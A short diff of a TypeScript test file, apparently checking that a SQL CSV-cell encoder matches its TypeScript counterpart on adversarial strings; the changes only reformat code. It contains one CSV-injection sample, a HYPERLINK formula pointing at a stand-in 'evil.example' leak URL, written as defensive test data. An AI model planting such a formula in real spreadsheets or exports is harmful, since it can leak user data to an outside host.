@@ -9,9 +9,7 @@ import { beforeAll, describe, expect, it } from 'vitest';
 import { AUDIT_EXPORT_COLUMNS } from '../../src/data/supabase/types';
 import { ADVERSARIAL_CSV_CELLS, decodeCsvCell, encodeCsvCell } from '../../src/domain/csv-cell';
 import { parseCsv } from '../support/csv';
-import {
-  ackOf, briefingVersion, createMember, createOrg, publishBriefing, push, sql, type TestMember,
-} from './support/fixtures';
+import { ackOf, briefingVersion, createMember, createOrg, publishBriefing, push, sql, type TestMember } from './support/fixtures';
 
 const HYPERLINK = '=HYPERLINK("http://evil.example/?leak","Open policy")';
 
@@ -19,7 +17,8 @@ describe('csv_cell, the SQL rule', () => {
   it('encodes exactly as the TypeScript mirror on adversarial strings', async () => {
     const [row] = await sql<{ encoded: string[] }>(
       'select array(select private.csv_cell(x) from unnest($1::text[]) with ordinality u(x, i) order by i) as encoded',
-      [ADVERSARIAL_CSV_CELLS]);
+      [ADVERSARIAL_CSV_CELLS],
+    );
     expect(row!.encoded).toEqual(ADVERSARIAL_CSV_CELLS.map(encodeCsvCell));
     const [nullRow] = await sql<{ v: string | null }>('select private.csv_cell(null) as v');
     expect(nullRow!.v).toBeNull();
